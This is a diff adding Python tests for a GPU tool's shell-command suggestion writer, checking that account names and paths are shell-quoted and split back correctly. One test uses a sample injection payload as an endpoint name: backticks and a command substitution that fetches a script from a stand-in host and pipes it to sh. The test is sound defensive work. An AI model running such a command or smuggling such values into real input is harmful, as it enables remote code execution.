@@ -1,0 +1,47 @@
+"""The one writer of the shell commands gpuctl suggests (gpuctl.commands, review 5 R5-3 and
+R5-6): whatever the words (an account's endpoint name, a path with spaces), a POSIX shell
+splits the suggestion back into exactly them, then the run's options."""
+
+from __future__ import annotations
+
+import shlex
+
+from hypothesis import given
+from hypothesis import strategies as st
+
+from gpuctl.commands import Flags, suggest
+
+WORDS = st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12), max_size=6)
+PATHS = st.one_of(st.none(), st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1, max_size=20))
+
+
+@given(WORDS, PATHS, st.sampled_from([None, "local", "runpod"]), PATHS)
+def test_a_suggestion_splits_back_into_its_words_then_the_run_s_options(argv, config, provider, policy):
+    flags = Flags.of_run(config, provider, policy)
+    said = suggest(*argv, flags=flags)
+    assert shlex.split(said) == ["gpu", *argv, *flags.words(*argv)]
+
+
+@given(WORDS)
+def test_without_options_a_suggestion_is_exactly_its_words(argv):
+    assert shlex.split(suggest(*argv)) == ["gpu", *argv]
+
+
+def test_an_account_s_name_is_one_quoted_word_never_a_command():
+    name = "a|`x` $(curl https://evil.example/x | sh); b"
+    said = suggest("serverless", "delete", name)
+    assert said == "gpu serverless delete 'a|`x` $(curl https://evil.example/x | sh); b'"
+    assert suggest("serverless", "delete", "My Endpoint") == "gpu serverless delete 'My Endpoint'"
+
+
+def test_the_run_s_config_provider_and_a_deploy_s_policy_are_repeated():
+    flags = Flags.of_run("services/asr/gpu.jsonc", "local", "platform.jsonc")
+    assert suggest("serverless", "deploy", "-y", flags=flags) == (
+        "gpu serverless deploy -y --config services/asr/gpu.jsonc --provider local --policy platform.jsonc")
+    assert suggest("serverless", "pull", "--write", flags=flags) == "gpu serverless pull --write --config services/asr/gpu.jsonc --provider local"
+    assert suggest("serverless", "pull", "--write", flags=Flags.of_run("my dir/gpu.jsonc")) == "gpu serverless pull --write --config 'my dir/gpu.jsonc'"
+
+
+def test_the_default_config_and_an_unnamed_provider_are_left_out():
+    for default in (None, "gpu.jsonc", "./gpu.jsonc"):
+        assert suggest("serverless", "deploy", "-y", flags=Flags.of_run(default)) == "gpu serverless deploy -y"
